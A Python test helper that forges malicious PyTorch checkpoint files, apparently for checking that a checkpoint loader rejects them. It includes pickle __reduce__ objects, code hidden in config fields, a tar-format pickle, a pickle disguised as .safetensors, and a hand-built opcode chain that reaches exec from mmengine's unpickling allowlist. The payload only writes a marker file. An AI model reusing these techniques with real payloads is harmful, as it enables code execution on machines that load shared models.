"""Checkpoint files that would write a marker file if whoever reads them ran code of theirs."""

import io
import struct
import tarfile
import zipfile

import torch


class Evil:
    """Unpickled, it opens a file for writing."""

    def __init__(self, marker):
        self.marker = str(marker)

    def __reduce__(self):
        return open, (self.marker, 'w')


def _global(module, name):
    return f'c{module}\n{name}\n'.encode()


def _text(text):
    return b'X' + struct.pack('<I', len(text.encode())) + text.encode()


def _attribute(owner, name):
    return _global('__builtin__', 'getattr') + owner + _text(name) + b'\x86R'


def escape(marker):
    """Opcodes that leave an object to the reader which allows mmengine's list: getattr and two classes, to ``exec``.

    The builtins of a method become the attributes of a namespace; ``exec`` of it becomes the ``__setstate__`` of a
    buffer, which is then given a state.
    """
    buffer = _global('mmengine.logging.history_buffer', 'HistoryBuffer')
    builtins = _attribute(_attribute(buffer, '__init__'), '__builtins__')
    namespace = _global('argparse', 'Namespace') + b')\x81' + builtins + b'b'
    armed = buffer + b')\x81}' + _text('__setstate__') + _attribute(namespace, 'exec') + b'sb'
    return armed + _text(f'open({str(marker)!r}, "w")') + b'b'


def forged(path, opcodes):
    """A file of torch's form whose pickle is ``opcodes``."""
    torch.save({}, path)
    with zipfile.ZipFile(path) as stored:
        members = {name: stored.read(name) for name in stored.namelist()}
    with zipfile.ZipFile(path, 'w') as archive:
        for name, content in members.items():
            archive.writestr(name, b'\x80\x02' + opcodes + b'.' if name.endswith('data.pkl') else content)
    return path


def tar(path, marker):
    """torch's oldest form, a tar archive of pickles."""
    import pickle

    with tarfile.open(path, 'w', format=tarfile.PAX_FORMAT) as archive:
        for name in ('storages', 'tensors', 'pickle'):
            content = pickle.dumps(Evil(marker), 2) if name == 'pickle' else pickle.dumps(0, 2)
            info = tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return path


def write(kind, folder, content, marker):
    """A file of a kind of ``KINDS`` in ``folder``, around a checkpoint that a training wrote."""
    path = folder / 'epoch_1.pth'
    content = dict(content)
    if kind == 'object':
        content['more'] = Evil(marker)
    elif kind == 'optimizer':
        content['optimizer'] = dict(content.get('optimizer') or {}, state={0: dict(step=1, exp_avg=Evil(marker))})
    elif kind == 'config':
        code = f'open({str(marker)!r}, "w")\n'
        content['meta'] = dict(content.get('meta') or {}, config=code, cfg=code)
        content['message_hub'] = dict(content.get('message_hub') or {})
        content['message_hub']['runtime_info'] = dict(content['message_hub'].get('runtime_info') or {}, cfg=code)
    elif kind == 'tar':
        return tar(path, marker)
    elif kind == 'escape':
        return forged(path, escape(marker))
    elif kind == 'safetensors':  # a pickle under another name
        path = folder / 'epoch_1.safetensors'
        content['more'] = Evil(marker)
    torch.save(content, path)
    return path


KINDS = ('object', 'optimizer', 'config', 'tar', 'escape', 'safetensors')
